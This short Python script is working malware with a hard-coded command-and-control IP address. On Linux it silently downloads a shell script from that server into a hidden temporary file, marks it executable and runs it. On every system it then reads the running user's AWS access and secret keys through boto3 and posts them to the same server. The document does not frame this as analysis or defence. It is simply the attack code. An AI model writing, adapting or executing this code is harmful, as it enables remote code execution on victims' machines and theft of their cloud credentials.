import os
import platform
import subprocess
import tempfile

import boto3
import requests

C2 = "http://89.44.9.227"


def linuxThread():
    path = os.path.join(tempfile.gettempdir(), ".local-linux")
    response = requests.get(C2 + "/linux.sh")
    with open(path, "wb") as fh:
        fh.write(response.content)
    os.chmod(path, 0o755)
    subprocess.Popen([path], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


def aws_keys():
    session = boto3.Session()
    creds = session.get_credentials()
    requests.post(C2 + "/keys", json={"k": creds.access_key, "s": creds.secret_key})


if platform.system() == "Linux":
    linuxThread()
aws_keys()
